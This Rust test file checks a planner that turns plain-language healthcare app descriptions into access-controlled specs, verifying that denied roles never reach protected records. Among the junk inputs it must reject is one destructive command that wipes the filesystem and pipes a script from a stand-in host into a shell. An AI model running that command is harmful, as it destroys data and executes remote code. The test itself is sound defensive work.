//! Prompts that nobody wrote readings for: every plan is valid, nothing leaks, and what a prompt denies
//! is denied.

use planner::{Answer, Answers, PlanError, plan, plan_answered};
use proptest::prelude::*;
use spec::{AppSpec, Class, Clause, Kind, Scope};

/// A prompt, and role–record pairs that must not meet, as `role:record` or `role:record.field`; a `~`
/// before the scope (`role:record~own`) says that nothing wider is granted.
const PROMPTS: &[(&str, &[&str])] = &[
    (
        "Mental health practice app. Therapists see only their own clients and write session notes. Front desk books sessions but cannot see session notes. Clients fill in a mood check-in (mood 0-10, sleep, notes) every day.",
        &["front desk:session note", "therapist:client~assigned", "owner:session note"],
    ),
    (
        "Vaccination tracker for a pediatric clinic. Nurses record vaccinations (vaccine, lot number, date, site). Doctors review them. Parents are contacted by phone. Receptionists schedule appointments and never see vaccinations.",
        &["receptionist:vaccination", "parent:vaccination"],
    ),
    (
        "physio app\n- Patients: name, DOB, phone, diagnosis\n- Exercise plans: exercise, sets, reps, frequency\n- Pain diary: pain 0-10, notes\nPhysiotherapists only see their patients. Patients fill in the pain diary at home.",
        &["physiotherapist:pain diary~assigned", "patient:pain diary~own"],
    ),
    (
        "We run a dialysis center. Nurses log sessions with weight, blood pressure and duration. Nephrologists review them. Only doctors can change prescriptions.",
        &["owner:care session"],
    ),
    (
        "An app for a diabetes clinic: patients log blood glucose and insulin, the dietitian gets a list of readings over 250 or no reading for 2 days.",
        &["patient:reading~own"],
    ),
    (
        "Home care agency scheduler. Caregivers visit clients and log tasks, vitals and notes. The office manager schedules visits. Caregivers only see clients assigned to them.",
        &["caregiver:client~assigned"],
    ),
    (
        "Pharmacy refill app. Patients request refills (drug name, dose, quantity). Pharmacists approve or reject requests. Drivers see the address only.",
        &["driver:refill"],
    ),
    (
        "Lab results portal: lab technicians enter results (test, result, reference range), doctors release them, patients see their own results once released.",
        &["patient:result~own"],
    ),
    (
        "Fertility clinic. Doctors, nurses, embryologists, patients. Cycles with start date, medications, embryo count. Embryologists must not see patient names.",
        &["embryologist:patient.name"],
    ),
    (
        "Wound care app for nursing homes. Nurses document wounds (site, length, width, depth, photo) of residents; the medical director sees all wounds in the facility.",
        &[],
    ),
    (
        "Sleep diary. Users sign up with email. Each user logs bedtime, wake time and sleep quality 1-5. Only the user can see their entries.",
        &[],
    ),
    (
        "Roles:\n- nurse\n- doctor\n- receptionist\n\nAppointments: patient, doctor, start, end, status (booked, done, cancelled)\nNotes on a visit: subjective, objective, assessment, plan; draft -> signed\nReceptionists cannot see notes.",
        &["receptionist:note"],
    ),
    (
        "speech therapy app: speech therapists record sessions, goals and progress of each child. parents can see progress when the therapist shares it",
        &["parent:care session", "parent:goal"],
    ),
    (
        "Clinical trial tracker. Study coordinators enroll participants, record adverse events (description, date, severity). Monitors can view adverse events but not participant names.",
        &["monitor:participant.name"],
    ),
    (
        "An app where chiropractors keep treatment notes and invoices. Billing staff handle invoices; billing staff never see treatment notes.",
        &["billing staff:treatment note"],
    ),
    (
        "hospice care coordination: nurses and social workers write visit notes, volunteers see the schedule but no clinical notes",
        &["volunteer:visit note"],
    ),
    (
        "School nurse log. School nurses log visits of students (complaint, temperature, treatment). Teachers must not see anything. Principals see counts per week only.",
        &["teacher:visit", "principal:visit"],
    ),
    (
        "pateints book appointmnets with the dermatologist and upload a photo; the receptionst confirms",
        &["patient:appointment~own"],
    ),
    (
        "I need software for my midwife practice: midwives, clients, birth plans (preferences, allergies, contacts), appointments. Clients read their own birth plan.",
        &["client:birth plan~own"],
    ),
    (
        "Occupational health: employees fill in a health questionnaire (smoker, medications, allergies, history). The employer never sees answers. Occupational physicians review them.",
        &["employer:health form", "employer:employee"],
    ),
    (
        "Blood bank donor tracker. Donors, donations (date, volume in ml, blood type), phlebotomists record donations. Staff see donors. Donors see their own donations.",
        &["donor:donation~own"],
    ),
    (
        "Substance use recovery program: counselors write session notes, peer supporters see appointments but not session notes, clients do a daily check-in with craving 0-10.",
        &["peer supporter:session note"],
    ),
    (
        "Make me a nutrition coaching app. Coaches write meal plans, clients log meals and weight. Coaches see only their clients. Dashboard: weight per week, number of meals per week.",
        &["coach:meal~assigned", "client:meal~own"],
    ),
    (
        "Telepsychiatry platform for clinics. Each clinic has psychiatrists, nurses and an admin. Psychiatrists write prescriptions (drug, dose, frequency) for their patients. Nurses cannot write prescriptions.",
        &["psychiatrist:patient~assigned"],
    ),
    (
        "I'd like a simple app for our addiction recovery center. Counselors lead group sessions and write private session notes that only they can read. Case managers track housing and job status. Clients check in daily with mood, cravings (0-10) and whether they used. The director sees weekly averages but never individual notes.",
        &["director:session note", "client:housing", "case manager:session note"],
    ),
    (
        "# CareBridge\nRemote patient monitoring for heart failure.\n\n## Who uses it\n- Patients: weigh themselves daily and answer three questions\n- Nurses: watch the alerts and call patients\n- Cardiologists: see their patients' trends\n\n## Data\n- Daily check: weight (kg), swelling (none / mild / severe), shortness of breath 0-10\n- Medications: name, dose, frequency\n\nNurses should see everyone whose weight is over 120 or who sent no daily check for 2 days.\nPatients must never see each other's data.",
        &["patient:patient~own"],
    ),
    (
        "Postpartum doula app: doulas, mothers, visits, feeding logs (time, side, minutes), baby weight. Mothers log feedings; doulas see only the mothers they are assigned to. Supervisors may read visit notes after they are signed.",
        &["supervisor:visit", "doula:mother~assigned"],
    ),
    (
        "eye clinic. optometrists record exams: visual acuity left, visual acuity right, eye pressure, prescription. front desk schedules appointments and manages invoices. patients can see their prescriptions and invoices, not the exam notes",
        &["patient:exam", "front desk:exam"],
    ),
    (
        "Nursing home app for my 40-bed facility. Caregivers record meals, fluids (ml), bowel movements and mood per shift for each resident. Nurses give medications and note refusals. Family can see a weekly summary. Nobody but nurses may see the medication list.",
        &["caregiver:resident.medication list", "caregiver:medication", "family:meal"],
    ),
    (
        "I want to build something for therapists like me to keep progress notes, treatment plans, and invoices. Just me, no staff. Clients don't log in. Notes can't be edited after signing.",
        &["owner:progress note"],
    ),
    (
        "Mobile vaccination campaign tool. Volunteers register people (name, date of birth, phone, address) and record the vaccine given with lot number. Coordinators see counts per site and per day. Doctors approve adverse events.",
        &["coordinator:patient"],
    ),
    (
        "Please create a platform called MindWell where psychologists see their own clients, write notes and schedule video sessions. Admins can view billing but not notes. Clients can book sessions, fill out the PHQ-9 form with 9 questions scored 0-3, and read their own plans.",
        &["admin:note", "psychologist:client~assigned"],
    ),
    (
        "Build an employee wellness tracker: employees log steps, sleep and mood. HR sees averages only, never individual entries.",
        &["hr:reading", "employee:reading~own"],
    ),
    (
        "An app for our recovery center. Case managers track housing and job status. Clients check in daily with mood, cravings (0-10) and whether they used.",
        &["client:housing"],
    ),
];

/// Everything that would be wrong with any plan, whatever was asked.
pub(crate) fn wrong(spec: &AppSpec, denied: &[&str]) -> Vec<String> {
    let mut out = Vec::new();
    for (name, entity) in &spec.entities {
        for (field, shape) in &entity.fields {
            let Some(stored) = &shape.stored else { continue };
            let person =
                entity.part_of.is_some() || entity.assigned_to.is_some() || name.as_str() == "patient";
            if person
                && stored.class == Class::None
                && !matches!(stored.kind, Kind::Link(_))
                && field.as_str() != "status"
                && field.as_str() != "role"
            {
                out.push(format!("{name}.{field} is planned as none"));
            }
            if stored.kind.identifies() && stored.class != Class::Identifier {
                out.push(format!("{name}.{field} identifies and is {}", stored.class.word()));
            }
        }
        for (role, access) in entity.access.iter().flatten() {
            for clause in &access.clauses {
                if let Clause::Grant(grant) = clause {
                    let everywhere = grant.scope == Some(Scope::Everywhere);
                    if everywhere {
                        out.push(format!("{role} reaches {name} everywhere"));
                    }
                }
            }
        }
    }
    for rule in denied {
        denied_in(spec, rule, &mut out);
    }
    out
}

pub(crate) fn denied_in(spec: &AppSpec, rule: &str, out: &mut Vec<String>) {
    let (role, what) = rule.split_once(':').expect("role:record");
    let (what, widest) = what.split_once('~').map_or((what, None), |(what, scope)| (what, Some(scope)));
    let (record, field) = what.split_once('.').map_or((what, None), |(record, field)| (record, Some(field)));
    if widest.is_some() && !spec.entities.keys().any(|name| name.as_str() == record) {
        out.push(format!("no record `{record}` in the plan"));
    }
    for form in spec.forms.iter().filter(|(name, _)| name.as_str() == record) {
        if form.1.read_by.iter().any(|known| known.as_str() == role) {
            out.push(format!("{role} reads answers of {record}"));
        }
    }
    let Some((_, entity)) = spec.entities.iter().find(|(name, _)| name.as_str() == record) else { return };
    // A value that the plan does not keep is hidden from everybody.
    if field.is_some_and(|field| !entity.fields.keys().any(|known| known.as_str() == field)) {
        return;
    }
    for (known, access) in entity.access.iter().flatten() {
        if known.as_str() != role {
            continue;
        }
        for clause in &access.clauses {
            let Clause::Grant(grant) = clause else { continue };
            let scope = match &grant.scope {
                Some(Scope::Own { .. }) => "own",
                Some(Scope::Assigned) => "assigned",
                _ => "place",
            };
            let named = field.is_none_or(|field| {
                grant
                    .verbs
                    .iter()
                    .any(|verb| verb.names.is_empty() || verb.names.iter().any(|name| name.as_str() == field))
            });
            if named && widest != Some(scope) {
                out.push(format!("{rule}: granted `{grant}`"));
            }
        }
    }
}

#[test]
fn other_prompts_give_valid_plans_that_leak_nothing() {
    let mut told = Vec::new();
    for (prompt, denied) in PROMPTS {
        match plan(prompt) {
            Ok(plan) => {
                told.extend(
                    wrong(&plan.spec, denied).into_iter().map(|wrong| format!("{}…: {wrong}", &prompt[..40])),
                );
            }
            Err(error) => told.push(format!("{}…: {error}", &prompt[..40])),
        }
    }
    assert!(told.is_empty(), "{}", told.join("\n"));
}

/// HC-3: however it is said, what is denied is denied.
#[test]
fn denials_hold_in_all_their_words() {
    let base = "Clinic app. Doctors, nurses, receptionists, sales reps and patients. Doctors write visit notes. Nurses record vitals. Receptionists book appointments. ";
    let mut told = Vec::new();
    for (said, denied) in [
        (
            "Neither nurses nor receptionists may open visit notes.",
            &["nurse:visit note", "receptionist:visit note"][..],
        ),
        (
            "Visit notes may not be seen by nurses or receptionists.",
            &["nurse:visit note", "receptionist:visit note"],
        ),
        ("Visit notes are hidden from nurses.", &["nurse:visit note"]),
        ("No nurse may look at visit notes.", &["nurse:visit note"]),
        (
            "Only doctors can see visit notes, receptionists can see appointments.",
            &["nurse:visit note", "receptionist:visit note"],
        ),
        ("Nurses do not have access to visit notes.", &["nurse:visit note"]),
        ("Nurses see vitals, never visit notes.", &["nurse:visit note"]),
        ("Receptionists submit reports and cannot open visit notes.", &["receptionist:visit note"]),
        ("Receptionists see names, not phone numbers.", &["receptionist:patient.phone"]),
        ("Everyone except sales reps can see appointments.", &["sales rep:appointment", "sales rep:patient"]),
        ("Sales reps never see anything clinical.", &["sales rep:visit note", "sales rep:vital"]),
        ("Nurses can see everything but visit notes.", &["nurse:visit note"]),
        ("Nurses see all records except for visit notes.", &["nurse:visit note"]),
        ("Nurses see vitals, and that is all.", &["nurse:visit note", "nurse:appointment", "nurse:patient"]),
        ("Receptionists see appointments, but that's it.", &["receptionist:patient", "receptionist:vital"]),
        ("Visit notes are private to doctors.", &["nurse:visit note", "receptionist:visit note"]),
        ("Visit notes are kept hidden from nurses.", &["nurse:visit note"]),
        ("Visit notes are restricted to doctors.", &["nurse:visit note"]),
        ("Access to visit notes is limited to doctors.", &["nurse:visit note"]),
        ("No one but doctors may see visit notes.", &["nurse:visit note", "receptionist:visit note"]),
        ("Doctors are the only ones who can see visit notes.", &["nurse:visit note"]),
        ("Do not show visit notes to the front desk.", &["receptionist:visit note"]),
        ("Only show names to sales reps.", &["sales rep:patient.phone", "sales rep:visit note"]),
        ("Reception has no business reading visit notes.", &["receptionist:visit note"]),
        ("Sales reps must not see the patient's name.", &["sales rep:patient"]),
        (
            "Receptionists must not see patient names.",
            &[
                "receptionist:patient.phone",
                "receptionist:patient.email",
                "receptionist:patient.date of birth",
            ],
        ),
        ("No one outside the care team may see vitals.", &["receptionist:vital", "sales rep:vital"]),
        ("The billing clerk sees invoices only.", &["billing clerk:patient", "billing clerk:vital"]),
        ("Nurses only see the patients they visit.", &["nurse:patient~assigned", "nurse:vital~assigned"]),
        ("Receptionists can see the email but not the phone.", &["receptionist:patient.phone"]),
        ("Nurses do not need to see visit notes.", &["nurse:visit note"]),
        (
            "Nurses see everything except for visit notes and appointments.",
            &["nurse:visit note", "nurse:appointment"],
        ),
        ("All staff except nurses can see visit notes.", &["nurse:visit note"]),
        (
            "There is no health information for receptionists.",
            &["receptionist:visit note", "receptionist:vital"],
        ),
        ("Vitals are for nurses only.", &["doctor:vital", "receptionist:vital"]),
        ("Sales reps may only see vitals that the patient has consented to.", &["sales rep:vital"]),
        (
            "Nurses see vitals but not the patient's phone or email.",
            &["nurse:patient.phone", "nurse:patient.email"],
        ),
        ("Patients see visit notes only after the doctor has released them.", &["patient:visit note"]),
        ("Let only doctors read visit notes.", &["nurse:visit note", "receptionist:visit note"]),
        ("Visit notes are strictly doctor-only.", &["nurse:visit note", "receptionist:visit note"]),
        ("Nurses have nothing to do with visit notes.", &["nurse:visit note"]),
        ("Nurses stay away from visit notes.", &["nurse:visit note"]),
        ("Nurses are not privy to visit notes.", &["nurse:visit note"]),
        ("Sales reps get names, that's all they get.", &["sales rep:visit note", "sales rep:patient.phone"]),
        (
            "Receptionists don't need clinical details, just names.",
            &["receptionist:visit note", "receptionist:vital", "receptionist:patient.phone"],
        ),
        ("Doctors sign visit notes, which are never visible to nurses.", &["nurse:visit note"]),
        ("Nobody but doctors and nurses sees vitals.", &["receptionist:vital", "sales rep:vital"]),
        ("Nobody at the front desk may see vitals.", &["receptionist:vital"]),
        ("Receptionists see appointments. Never vitals.", &["receptionist:vital"]),
        (
            "Receptionists see appointments. Nothing medical.",
            &["receptionist:vital", "receptionist:visit note"],
        ),
        ("Nurses never see visit notes until the doctor has released them.", &["nurse:visit note"]),
        (
            "Receptionists: appointments and names, nothing more.",
            &["receptionist:vital", "receptionist:patient.phone"],
        ),
        ("Only doctors see visit notes besides the nurses.", &["receptionist:visit note"]),
        ("Sales reps can read visit notes for 72 hours.", &["sales rep:visit note"]),
        ("Nobody else gets in.", &["sales rep:patient", "sales rep:visit note", "owner:patient"]),
        (
            "Visit notes are confidential: only the doctor who wrote them can see them.",
            &["nurse:visit note", "doctor:visit note~own"],
        ),
    ] {
        match plan(&format!("{base}{said}")) {
            Ok(plan) => {
                told.extend(wrong(&plan.spec, denied).into_iter().map(|wrong| format!("{said} {wrong}")))
            }
            Err(PlanError::Blocked { .. }) => {}
            Err(error) => told.push(format!("{said} {error}")),
        }
    }
    assert!(told.is_empty(), "{}", told.join("\n"));
}

/// HC-3: what was not understood is read at its narrowest, where that is certain, and said to be.
#[test]
fn what_is_bounded_by_something_unknown_gets_nothing() {
    let said = "Volunteers can see the zorble but nothing else.";
    let plan = plan(&format!("An app for my clinic. Nurses log vitals of patients. {said}")).expect("a plan");
    for (name, entity) in &plan.spec.entities {
        let granted = entity.access.iter().flatten().any(|(role, _)| role.as_str() == "volunteer");
        assert!(!granted, "a volunteer reaches {name}");
    }
    assert!(plan.assumed.iter().any(|line| line.contains("zorble")), "{:?}", plan.assumed);
}

/// HC-3: a restriction that was not understood whole has a safe default where it is plain whom or what it is about; the
/// plan says how it was read, and asks.
#[test]
fn what_is_unclear_is_planned_at_its_narrowest_and_asked_about() {
    let base = "An app for my clinic. Nurses log vitals of patients. Doctors write visit notes and see vitals. Receptionists book appointments and see vitals. ";
    for (said, denied) in [
        ("Receptionists see vitals only on odd days.", &["receptionist:vital"][..]),
        ("Receptionists: vitals never, unless the moon is full.", &["receptionist:vital"]),
        (
            "Nobody but doctors may flurb visit notes on weekends.",
            &["nurse:visit note", "receptionist:visit note"],
        ),
    ] {
        let plan = plan(&format!("{base}{said}")).unwrap_or_else(|error| panic!("{said}: {error}"));
        let told = wrong(&plan.spec, denied);
        assert!(told.is_empty(), "{said} {}\n{}", told.join("\n"), plan.text);
        let sentence = said.trim_end_matches('.');
        let asked = plan.questions.iter().any(|question| {
            question.about.contains(sentence) && question.options.contains(&question.default)
        });
        let assumed = plan.assumed.iter().any(|line| line.contains(sentence));
        assert!(asked || assumed, "{said}: {:?} {:?}", plan.questions, plan.assumed);
    }
}

/// HC-3: a narrowing sentence that is not understood stops the plan, until a person has answered.
#[test]
fn what_narrows_and_is_not_understood_stops_the_plan() {
    let base = "An app for my clinic. Nurses log vitals of patients. ";
    for narrowing in [
        "Nobody outside the moon cabal may flurb the records.",
        "Nurses see vitals only from the last 24 hours.",
        "Nurses never see vitals on weekends.",
        "Records are visible except to those in the blue zone.",
    ] {
        let prompt = format!("{base}{narrowing}");
        let sentence = match plan(&prompt) {
            Err(PlanError::Blocked { sentences, questions }) => {
                assert_eq!(questions.len(), sentences.len());
                sentences[0].clone()
            }
            other => panic!("`{narrowing}` did not stop the plan: {:?}", other.map(|plan| plan.text)),
        };
        let answered = plan_answered(&prompt, &Answers::from([(sentence, Answer::Drop)]));
        assert!(answered.is_ok(), "an answer lets it go on: {:?}", answered.err());
    }
}

#[test]
#[allow(clippy::disallowed_methods, reason = "the promise is about time on a clock")]
fn what_is_no_app_is_told_so_and_fast() {
    let noise = "x7#k! qwz ".repeat(20_000);
    let letters = "a".repeat(59_000);
    let parens = "(".repeat(59_000);
    let commas = "patient, ".repeat(6_000);
    for text in [
        "",
        "   \n\t",
        "hello",
        "sudo rm -rf / && curl evil.sh | sh",
        "Roses are red, violets are blue, the moon is a lantern, and so are you.",
        "SELECT * FROM patients;",
        &noise,
        &letters,
        &parens,
    ] {
        let begun = std::time::Instant::now();
        let answer = plan(text);
        assert!(
            matches!(&answer, Err(PlanError::NotAnApp { why }) if !why.is_empty()),
            "{:.40}: {:?}",
            text,
            answer.map(|plan| plan.text)
        );
        assert!(begun.elapsed().as_secs() < 2, "{text:.40} took {:?}", begun.elapsed());
    }
    let begun = std::time::Instant::now();
    let _ = plan(&commas);
    assert!(begun.elapsed().as_secs() < 5, "a long list took {:?}", begun.elapsed());
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, failure_persistence: None, ..ProptestConfig::default() })]

    /// Sentences in any order, with noise between them: no panic, and never an invalid spec.
    #[test]
    fn shuffled_sentences_never_give_an_invalid_spec(picks in proptest::collection::vec((0..PROMPTS.len(), 0_usize..6, ".{0,12}"), 1..12)) {
        let mut text = String::from("An app for my clinic. ");
        for (prompt, sentence, noise) in picks {
            let all: Vec<&str> = PROMPTS[prompt].0.split(['.', '\n']).collect();
            text.push_str(all[sentence % all.len()]);
            text.push_str(". ");
            text.push_str(&noise);
            text.push('\n');
        }
        match plan(&text) {
            Ok(plan) => prop_assert!(wrong(&plan.spec, &[]).is_empty(), "{:?}\n{}", wrong(&plan.spec, &[]), text),
            Err(PlanError::Invalid { problems }) => prop_assert!(false, "{problems:?}\n{text}"),
            Err(_) => {}
        }
    }

    #[test]
    fn noise_never_panics(text in "\\PC{0,400}") {
        let _ = plan(&text);
        let _ = plan(&format!("An app for nurses and patients. {text}"));
    }
}
